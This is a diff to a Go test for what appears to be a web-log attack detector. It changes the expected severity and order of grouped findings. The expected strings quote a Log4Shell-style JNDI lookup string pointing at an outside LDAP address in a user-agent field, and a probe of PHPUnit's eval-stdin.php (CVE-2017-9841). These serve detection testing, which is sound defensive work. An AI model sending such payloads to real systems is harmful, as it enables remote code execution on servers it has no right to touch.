@@ -213,8 +213,8 @@ func TestCrowds(t *testing.T) {
 	}
 	want := []string{
 		"high 198.51.100.9 1: 198.51.100.9 sent 1 request with injection of an expression, answered 200 (and 1 more that were refused); the first of the gravest: GET /x.action, the user agent ${jndi:ldap://198.51.100.7/a}",
-		"medium  500: 500 requests with injection of an expression from 250 addresses, answered 200 (500); the first of the gravest: GET /, the user agent ${jndi:ldap://198.51.100.7/a}",
 		"low  500: 500 requests with exploit of a known hole from 200 addresses, all refused; the first: GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php, the path /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php, PHPUnit's eval-stdin.php runs the PHP it is sent (CVE-2017-9841)",
+		"low  500: 500 requests with injection of an expression from 250 addresses, answered 200 (500); the first of the gravest: GET /, the user agent ${jndi:ldap://198.51.100.7/a}",
 	}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Errorf("findings (-want +got):\n%s", d)
